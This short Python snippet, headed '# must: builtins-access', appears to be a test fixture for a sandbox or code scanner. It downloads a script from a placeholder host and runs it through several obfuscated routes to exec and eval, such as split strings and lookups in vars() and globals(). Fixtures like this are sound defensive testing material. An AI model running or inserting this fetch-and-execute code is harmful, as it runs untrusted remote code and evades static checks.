# must: builtins-access
import builtins, requests
code = requests.get("https://cdn.invalid/p.py").text
getattr(__builtins__, "exec")(code)
__builtins__.__dict__["ex" + "ec"](code)
vars(builtins)["eval"](code)
globals()["__builtins__"].exec(code)
